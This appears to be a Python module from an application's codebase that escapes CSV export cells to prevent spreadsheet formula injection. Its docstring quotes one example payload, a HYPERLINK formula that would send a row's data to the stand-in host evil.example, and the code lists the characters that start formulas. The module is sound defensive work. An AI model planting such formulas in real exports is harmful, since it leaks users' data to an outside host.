"""The one CSV writer for files people open in a spreadsheet (every export this app writes).

A cell that starts with = + - @, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets: a member-typed address such as
``=HYPERLINK("https://evil.example/?d="&A2,"…")`` would become a live link that
sends the row away (OWASP "CSV Injection"). Such a text cell is written with a
leading apostrophe, which every spreadsheet shows as text and hides.

Numbers (int, float) are written as they are, so -1200 stays a number. A text
that already starts with apostrophes before one of those characters gets one
more, so `unescape` gives back exactly what was written (parse_* read exports back).

CSV meant for machines only (COPY into PostgreSQL, test fixtures fed to our own
parser, `make bench`'s generated import file) does not go through here:
tests/security/test_csv_injection.py lists them and fails on any other csv.writer.
"""
from __future__ import annotations

import csv
from typing import Any, Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _risky(text: str) -> bool:
    rest = text.lstrip("'")
    return rest != "" and rest[0] in FORMULA_STARTS


def escape(value: Any) -> Any:
    """The cell as it is safe to write: numbers untouched, risky text behind an apostrophe."""
    if value is None or (isinstance(value, (int, float)) and not isinstance(value, bool)):
        return value
    text = str(value)
    return "'" + text if _risky(text) else text


def unescape(text: str) -> str:
    """What `escape` was given (as text): one apostrophe less in front of a risky cell."""
    if text.startswith("'") and _risky(text):
        return text[1:]
    return text


class _Writer:
    def __init__(self, inner):
        self._inner = inner

    @property
    def dialect(self):
        return self._inner.dialect

    def writerow(self, row: Iterable[Any]):
        return self._inner.writerow([escape(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(fileobj, **kwargs) -> _Writer:
    """csv.writer(fileobj, **kwargs) whose every cell is escaped as above."""
    return _Writer(csv.writer(fileobj, **kwargs))


class DictWriter(csv.DictWriter):
    """csv.DictWriter whose every cell is escaped as above (header names are ours)."""

    def __init__(self, fileobj, fieldnames, **kwargs):
        super().__init__(fileobj, fieldnames, **kwargs)
        self.writer = writer(fileobj, **{k: v for k, v in kwargs.items()
                                         if k not in ("restval", "extrasaction")})
